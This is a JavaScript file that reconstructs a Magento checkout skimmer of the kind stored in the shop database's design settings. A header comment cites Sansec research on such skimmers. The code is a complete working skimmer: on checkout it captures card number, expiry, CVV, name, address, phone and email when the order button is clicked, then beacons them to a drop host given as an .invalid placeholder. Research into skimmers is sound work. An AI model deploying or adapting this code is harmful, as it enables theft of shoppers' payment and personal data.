// core-config-data, written from Sansec's write-ups of Magento skimmers stored in the
// database rather than in files (2019-2024): an inline script put into the shop's
// "design/head/includes" or "design/footer/absolute_footer" setting in core_config_data, so it
// is printed on every page; on the one-page checkout it listens for the order button and sends
// the payment and address fields form-encoded to a drop host (here .invalid) with sendBeacon.
(function () {
  var drop = "https://magento-analytics-cdn.invalid/api/v1/stat";
  function q(n) {
    var el = document.querySelector("[name='" + n + "']") || document.getElementById(n);
    return el ? el.value : "";
  }
  function send() {
    var p = new URLSearchParams();
    p.append("cc", q("payment[cc_number]"));
    p.append("m", q("payment[cc_exp_month]"));
    p.append("y", q("payment[cc_exp_year]"));
    p.append("cvv", q("payment[cc_cid]"));
    p.append("fn", q("firstname"));
    p.append("ln", q("lastname"));
    p.append("st", q("street[0]"));
    p.append("city", q("city"));
    p.append("zip", q("postcode"));
    p.append("tel", q("telephone"));
    p.append("mail", q("username") || q("email"));
    p.append("host", location.host);
    if (p.get("cc").length > 11) navigator.sendBeacon(drop, p);
  }
  document.addEventListener("click", function (e) {
    if (location.href.indexOf("checkout") === -1) return;
    if (e.target.closest("button.checkout, button[title='Place Order'], .action.primary")) send();
  });
})();
